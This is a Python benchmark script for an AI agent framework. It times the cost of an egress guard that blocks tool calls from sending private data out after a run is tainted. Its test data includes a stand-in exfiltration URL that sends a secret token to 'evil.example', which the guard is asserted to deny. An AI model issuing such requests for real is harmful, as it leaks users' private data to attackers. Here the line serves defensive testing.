"""Benchmark: what provenance and the egress guard cost per tool call, beside the executor's
own overhead measured in the same run (issue 21; target: the guard at most 5 µs per call on
the fast path).

Tools: `quiet` (declares no egress: the guard is never consulted) and `sender` (network
egress, egress_of parses its URL), both doing nothing, so only the machinery is measured.

  executor        quiet through ToolExecutor.execute minus calling it directly: the
                  executor's own overhead (validation, events, labels, stats)
  fast path       sender through the executor in a run that is not tainted, minus quiet
                  through the executor: the guard's cost when it has nothing to decide
  guard, allowed  sender in a tainted run holding private data, its URL made of the person's
                  words: egress_of + check + the count, minus quiet
  guard, denied   the same with a URL the person did not write: the guard, the approval
                  request and the refusal (no person to ask), minus quiet
  check() alone   jarvis.trust.guard.check: fast path, allowed, denied

Run:  python bench/bench_trust.py [--quick]
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))
from timing import best  # noqa: E402

QUICK = "--quick" in sys.argv


def main() -> None:
    from jarvis.core.events import EventBus
    from jarvis.core.types import ToolCall, ToolResult
    from jarvis.tools.base import BaseTool
    from jarvis.tools.executor import ToolExecutor
    from jarvis.tools.spec import ToolSpec
    from jarvis.trust import Egress, RunTrust, check

    class Quiet(BaseTool):
        tool_id = "quiet"
        inline = True
        _SPEC = ToolSpec(name="quiet", description="nothing", parameters={
            "type": "object", "properties": {"url": {"type": "string"}}},
            output_labels=frozenset(), egress="none")

        @property
        def spec(self) -> ToolSpec:
            return self._SPEC

        def execute(self, **params: Any) -> ToolResult:
            return ToolResult("quiet", "ok")

    class Sender(Quiet):
        tool_id = "sender"
        _SPEC = ToolSpec(name="sender", description="nothing", parameters={
            "type": "object", "properties": {"url": {"type": "string"}}},
            output_labels=frozenset(), egress="network")

        def egress_of(self, arguments: dict[str, Any]) -> list[Any]:
            from jarvis.tools.http_request import url_egress

            return url_egress("sender", arguments)

        def execute(self, **params: Any) -> ToolResult:
            return ToolResult("sender", "ok")

    prompt = "what is the weather in Paris? ask wttr.in"
    covered = '{"url": "https://wttr.in/Paris"}'
    uncovered = '{"url": "https://evil.example/?d=JARVIS-SECRET-1234"}'

    def executor(exposed: bool) -> ToolExecutor:
        trust = RunTrust(person_texts=[prompt], max_unconfirmed=10**12)
        if exposed:
            trust.mark_tainted("a web page", call_id="c1", tool="web_fetch")
            trust.mark_private("a note", call_id="c2", tool="file_read")
        return ToolExecutor([Quiet(), Sender()], EventBus(), trust=trust)

    calm, exposed = executor(False), executor(True)
    quiet_tool = Quiet()
    q_call = ToolCall(id="c", name="quiet", arguments=covered)
    s_covered = ToolCall(id="c", name="sender", arguments=covered)
    s_uncovered = ToolCall(id="c", name="sender", arguments=uncovered)
    assert exposed.execute(s_covered).success
    assert not exposed.execute(s_uncovered).success
    assert calm.execute(s_uncovered).success

    n, rounds = (500, 40) if QUICK else (500, 200)
    found = best({
        "direct": lambda: quiet_tool.execute(url="https://wttr.in/Paris"),
        "quiet": lambda: calm.execute(q_call),
        "fast": lambda: calm.execute(s_uncovered),
        "allowed": lambda: exposed.execute(s_covered),
        "denied": lambda: exposed.execute(s_uncovered),
    }, n, rounds)

    plain = RunTrust(person_texts=[prompt])
    watched = exposed.trust
    allowed_egress = [Egress.of("network", "wttr.in", method="GET", url="https://wttr.in/Paris")]
    denied_egress = [Egress.of("network", "evil.example", method="GET",
                               url="https://evil.example/?d=JARVIS-SECRET-1234")]
    pure = best({
        "check_fast": lambda: check(plain, "sender", denied_egress),
        "check_allowed": lambda: check(watched, "sender", allowed_egress),
        "check_denied": lambda: check(watched, "sender", denied_egress),
    }, n * 4, rounds)

    us = 1e6
    executor_own = found["quiet"] - found["direct"]
    rows = [
        ("tool called directly", found["direct"], None),
        ("executor's own overhead (quiet tool)", executor_own, None),
        ("guard, fast path (not tainted)", found["fast"] - found["quiet"], executor_own),
        ("guard, allowed (the person's words)", found["allowed"] - found["quiet"], executor_own),
        ("guard, denied (request + refusal)", found["denied"] - found["quiet"], executor_own),
        ("check() fast path", pure["check_fast"], executor_own),
        ("check() allowed", pure["check_allowed"], executor_own),
        ("check() denied", pure["check_denied"], executor_own),
    ]
    print(f"{'measure':<42} {'µs/call':>9} {'vs executor':>12}")
    for name, seconds, base in rows:
        ratio = f"{seconds / base:>11.2f}x" if base else f"{'':>12}"
        print(f"{name:<42} {seconds * us:>9.2f} {ratio}")
    fast = (found["fast"] - found["quiet"]) * us
    print(f"\nfast path: {fast:.2f} µs per call (target <= 5 µs): "
          f"{'ok' if fast <= 5 else 'OVER TARGET'}")


if __name__ == "__main__":
    main()
